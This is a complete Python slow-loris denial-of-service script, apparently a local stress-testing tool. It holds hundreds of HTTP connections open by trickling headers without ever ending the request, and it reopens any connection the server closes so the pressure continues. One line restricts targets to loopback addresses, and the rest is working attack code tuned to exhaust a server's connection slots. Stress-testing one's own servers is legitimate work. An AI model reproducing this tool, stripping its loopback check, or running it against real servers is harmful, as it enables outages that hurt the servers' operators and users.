#!/usr/bin/python3
"""loris.py — holds N slow-loris connections open against one local server.

Each connection sends a request line and a Host header, then one more header
line every --interval seconds and never the blank line that ends the head. A
connection the server answers (408, 503) or closes is opened again after
--retry seconds, so the attack keeps its pressure without spinning.

Every 0.25 s it prints one line: "held H opened O answered A" — H connections
open and unanswered now, O opened in all, A answered or closed by the server.
Runs until --seconds pass or SIGTERM. Only loopback addresses are accepted.
"""
import argparse
import errno
import ipaddress
import selectors
import signal
import socket
import sys
import time


class Loris:
    def __init__(self, host, port, count, interval, retry):
        self.addr = (host, port)
        self.count, self.interval, self.retry = count, interval, retry
        self.sel = selectors.DefaultSelector()
        self.socks = {}        # socket -> [next send time, connected, lines sent]
        self.reopen_at = []    # times at which a closed slot may be opened again
        self.opened = self.answered = 0

    def open_one(self, now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex(self.addr)
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            self.reopen_at.append(now + self.retry)
            return
        self.opened += 1
        # Spread the trickle so the server sees a steady drip, not bursts.
        self.socks[s] = [now + self.interval * (self.opened % 100) / 100.0, False, 0]
        self.sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def drop(self, s, now):
        self.sel.unregister(s)
        s.close()
        del self.socks[s]
        self.answered += 1
        self.reopen_at.append(now + self.retry)

    def send(self, s, data, now):
        try:
            s.send(data)
        except OSError:
            self.drop(s, now)
            return False
        return True

    def step(self, now):
        for key, events in self.sel.select(timeout=0.05):
            s = key.fileobj
            st = self.socks.get(s)
            if st is None:
                continue
            if events & selectors.EVENT_WRITE and not st[1]:
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    self.drop(s, now)
                    continue
                st[1] = True
                self.sel.modify(s, selectors.EVENT_READ)
                self.send(s, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", now)
            elif events & selectors.EVENT_READ:
                try:
                    s.recv(4096)
                except OSError:
                    pass
                if s in self.socks:
                    self.drop(s, now)  # any answer, or the close, ends this one
        for s, st in list(self.socks.items()):
            if st[1] and now >= st[0]:
                st[0] = now + self.interval
                st[2] += 1
                self.send(s, b"X-Loris-%d: x\r\n" % st[2], now)
        self.reopen_at = [t for t in self.reopen_at if t > now]  # the due ones reopen now
        while len(self.socks) + len(self.reopen_at) < self.count:
            self.open_one(now)

    def held(self):
        return sum(1 for st in self.socks.values() if st[1])


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=500)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--retry", type=float, default=0.25)
    ap.add_argument("--seconds", type=float, default=60.0)
    args = ap.parse_args()
    if not ipaddress.ip_address(args.host).is_loopback:
        sys.exit("loris.py: only loopback addresses are targets")

    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    loris = Loris(args.host, args.port, args.count, args.interval, args.retry)
    end = time.monotonic() + args.seconds
    next_report = 0.0
    try:
        while not stop and time.monotonic() < end:
            now = time.monotonic()
            loris.step(now)
            if now >= next_report:
                print("held %d opened %d answered %d" % (loris.held(), loris.opened,
                                                         loris.answered), flush=True)
                next_report = now + 0.25
    except KeyboardInterrupt:
        pass
    for s in list(loris.socks):
        s.close()


if __name__ == "__main__":
    main()
